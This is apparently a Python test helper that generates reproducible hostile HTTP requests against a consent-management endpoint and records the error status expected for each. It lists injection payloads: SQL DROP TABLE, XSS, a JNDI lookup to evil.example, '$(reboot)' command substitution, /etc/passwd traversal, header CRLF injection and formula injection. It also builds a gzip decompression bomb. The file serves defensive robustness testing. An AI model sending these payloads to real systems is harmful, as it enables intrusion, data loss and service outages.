"""Requests that nobody means well by: bodies, headers and paths, the same in each run."""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import msgspec

# In all that is sent, so that it is found wherever it comes out again.
MARK = "zqx7mark"
PIECES = (
    "' OR 1=1 --", "'; DROP TABLE consents; --", "\") UNION SELECT secret_hash FROM consents --",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%n", "{0.__class__}", "$(reboot)", "`id`",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "..%252f..%252f",
    "/etc/passwd%00.js", "file:///etc/passwd", "\\\\evil.example\\share",
    "\r\nSet-Cookie: a=b", "\nX-Injected: 1", "\r\n\r\n<html>", "line\nforged=1 level=error",
    "\x1b[2J\x1b[31m", "\x00", "\x08\x08\x08", "\u202egnp.exe", "\u2028", "\ufeff", "\ud800",
    "\U0001f4a9", "ﷺ" * 40, "A" * 3_000, "-1", "0x7f", "1e999", "NaN", "null", "[]", "__proto__",
    "constructor", "=cmd|' /C calc'!A0", "../shop", ".", "..", "%", "%zz", "?", "#", ";x=1",
)  # fmt: skip
# What may stand in a header's value as it is.
HEADERS = (
    "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Original-URL", "X-Rewrite-URL",
    "X-HTTP-Method-Override", "Forwarded", "CF-IPCountry", "User-Agent", "Referer", "Cookie",
    "Accept", "Accept-Language", "Accept-Encoding", "If-None-Match", "Range", "Sec-GPC", "Via",
    "Traceparent", "Idempotency-Key",
)  # fmt: skip
JSON = {"content-type": "application/json"}


class Hostile(msgspec.Struct, frozen=True):
    """One request, and the statuses of which one is right for it."""

    method: str
    path: str
    """As sent, percent-encoded."""
    headers: dict[str, str]
    body: bytes
    right: frozenset[int]


def requests(valid: dict[str, Any], count: int, seed: int) -> Iterator[Hostile]:
    """So many; `valid` is a choice that would be kept."""
    chance = random.Random(seed)  # noqa: S311 - the same in each run is what is wanted
    kinds: tuple[Callable[[random.Random, dict[str, Any]], Hostile], ...] = (
        _bytes, _shape, _field, _field, _extra, _missing, _purposes, _twice, _cut, _number, _deep,
        _coded, _long, _kind, _packed, _origin, _bearer, _path, _path, _query, _method,
    )  # fmt: skip
    for number in range(count):
        one = kinds[number % len(kinds)](chance, valid)
        more = {name: _latin(chance) for name in chance.sample(HEADERS, chance.randrange(4))}
        yield msgspec.structs.replace(one, headers={**more, **one.headers})


def piece(chance: random.Random) -> str:
    """A text of several attacks, with the mark in it."""
    parts = [chance.choice(PIECES) for _ in range(chance.randrange(1, 4))]
    parts.insert(chance.randrange(len(parts) + 1), MARK)
    return "".join(parts)


def _latin(chance: random.Random) -> str:
    """As servers let it through in a header."""
    text = "".join(
        one for one in piece(chance) if one == "\t" or " " <= one < "\x7f" or one >= "\xa0"
    )
    return text.encode("latin-1", "ignore").decode("latin-1").strip() or MARK


def _post(body: bytes, *right: int, **headers: str) -> Hostile:
    more = {name.replace("_", "-"): value for name, value in headers.items()}
    return Hostile("POST", "/shop/consents", {**JSON, **more}, body, frozenset(right))


def _dumped(value: Any) -> bytes:
    return json.dumps(value).encode()


def _bytes(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    return _post(chance.randbytes(chance.randrange(1, 400)) + MARK.encode(), 400, 422)


def _value(chance: random.Random, depth: int = 3) -> Any:
    if not depth or chance.random() < 0.6:
        return chance.choice((piece(chance), None, True, 0, -1, 1.5, 10**30, "", [], {}))
    if chance.random() < 0.5:
        return [_value(chance, depth - 1) for _ in range(chance.randrange(4))]
    return {piece(chance): _value(chance, depth - 1) for _ in range(chance.randrange(1, 4))}


def _shape(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    return _post(_dumped(_value(chance)), 400, 413, 422)


def _field(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    """A value of one field that fits none; a text is added at its end half of the times."""
    name = chance.choice([*valid])
    value: Any = _value(chance)
    if isinstance(valid[name], str) and chance.random() < 0.5:
        value = valid[name] + chance.choice(("\n", "\r\n", "\x00", " ", piece(chance)))
    if name in ("time", "signal") and value in (0, 1, True, None):
        value = piece(chance)
    return _post(_dumped({**valid, name: value}), 400, 413, 422)


def _extra(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    name = chance.choice(("site", "id", "number", "channel", "place", "regime_", piece(chance)))
    return _post(_dumped({**valid, name: _value(chance)}), 400, 413, 422)


def _missing(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    gone = chance.choice([*valid])
    return _post(_dumped({name: value for name, value in valid.items() if name != gone}), 422)


def _purposes(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    asked = dict(valid["purposes"])
    if chance.random() < 0.5:
        del asked[chance.choice([*asked])]
    else:
        asked[chance.choice(("necessary", "x", "analytics\n", piece(chance)))] = False
    return _post(_dumped({**valid, "purposes": asked}), 400, 413, 422)


def _twice(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    """A key that comes twice; which of the two counts is for each reader to guess."""
    name = chance.choice([*valid])
    again = f',"{name}":{json.dumps(valid[name])}}}'
    if chance.random() < 0.5:
        again = ',"purposes":{"analytics":false,"analytics" :true}}'
    return _post(_dumped(valid)[:-1] + again.encode(), 422)


def _cut(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    whole = _dumped(valid)
    return _post(whole[: chance.randrange(len(whole))], 400, 422)


def _number(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    text = chance.choice(("9" * 400, "1e400", "-1", "1.5", "1E5000", "-0.1", "0x10", "Infinity"))
    whole = _dumped({**valid, "time": 12_345}).replace(b"12345", text.encode())
    return _post(whole, 400, 422)


def _deep(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    opening = chance.choice(("[", '{"a":', '{"purposes":', '[{"":'))
    inside = (opening * (7_000 // len(opening))).encode()
    if chance.random() < 0.5:
        inside = _dumped(valid)[:-1] + b',"cookie":' + inside[:6_000]
    return _post(inside, 400, 422)


def _coded(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    coding = chance.choice(("utf-8-sig", "utf-16", "utf-16-le", "utf-32", "cp037", "utf-7"))
    return _post((json.dumps(valid) + ("" if coding != "utf-7" else "+")).encode(coding), 400)


def _long(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    filler = MARK * chance.randrange(1_100, 4_000)
    return _post(_dumped({**valid, "cookie": filler}), 413)


def _kind(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    kind = chance.choice((
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/html",
        "application/xml", "application/jsonp", "application/cbor", "", _latin(chance),
        "application/json, text/plain", "text/plainx",
    ))  # fmt: skip
    return _post(_dumped(valid), 415, content_type=kind)


def _packed(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    """A bomb, or what only says that it is packed."""
    coding = chance.choice(("gzip", "br", "deflate", "zstd", "gzip, gzip", "x", _latin(chance)))
    body = gzip.compress(b"0" * 5_000_000, 9) if chance.random() < 0.5 else _dumped(valid)
    return _post(body, 413, 415, content_encoding=coding)


def _origin(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    origin = chance.choice((
        "null", "https://evil.example", "https://www.shop.example.evil.example", "*",
        "https://www.shop.example@evil.example", "http://www.shop.example", _latin(chance),
        "https://www.shop.example:1", "HTTPS://WWW.SHOP.EXAMPLE", "https://www.shop.example/",
    ))  # fmt: skip
    return _post(_dumped(valid), 403, origin=origin)


def _bearer(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    id_ = chance.choice((chance.randbytes(16).hex(), quote(piece(chance), errors="ignore")))
    given = chance.choice((
        f"Bearer {valid['secret']}", f"Bearer {chance.randbytes(32).hex()}", _latin(chance),
        f"Bearer {_latin(chance)}", f"Basic {valid['secret']}", f"Bearer  {valid['secret']}", "",
    ))  # fmt: skip
    method = chance.choice(("GET", "DELETE"))
    ending = chance.choice(("", "/receipt")) if method == "GET" else ""
    path = f"/shop/consents/{id_}{ending}"
    return Hostile(method, path, {"authorization": given}, b"", frozenset((401, 404)))


def _encoded(chance: random.Random) -> str:
    text = piece(chance)
    once = quote(text, safe=chance.choice(("", "/", "/.")), errors="ignore")
    return quote(once) if chance.random() < 0.3 else once


def _path(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    template = chance.choice((
        "/{}", "/shop/{}", "/{}/consents", "/shop/{}/gate.js", "/shop/{}.js", "/engine/{}/x.js",
        "/shop/engine/{}/x.js", "/shop/declaration.{}", "/{}/declaration", "/{}/preferences",
        "/.well-known/{}", "/admin/{}", "/admin/sites/{}", "/shop/consents/{}/{}", "//{}//",
    ))  # fmt: skip
    path = template.replace("{}", _encoded(chance))
    method = chance.choice(("GET", "GET", "POST", "DELETE"))
    return Hostile(method, path, {}, b"", frozenset((400, 401, 403, 404, 405)))


def _query(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    name = chance.choice(("lang", "saved", "before", "method", "callback", "_method"))
    path = f"/none/declaration?{name}={_encoded(chance)}&{_encoded(chance)}"
    return Hostile("GET", path, {}, b"", frozenset((404,)))


def _method(chance: random.Random, valid: dict[str, Any]) -> Hostile:
    method = chance.choice(("PUT", "PATCH", "TRACE", "PROPFIND", "BREW", "PURGE", "OPTIONS"))
    return Hostile(method, "/shop/consents", JSON, _dumped(valid), frozenset((405,)))
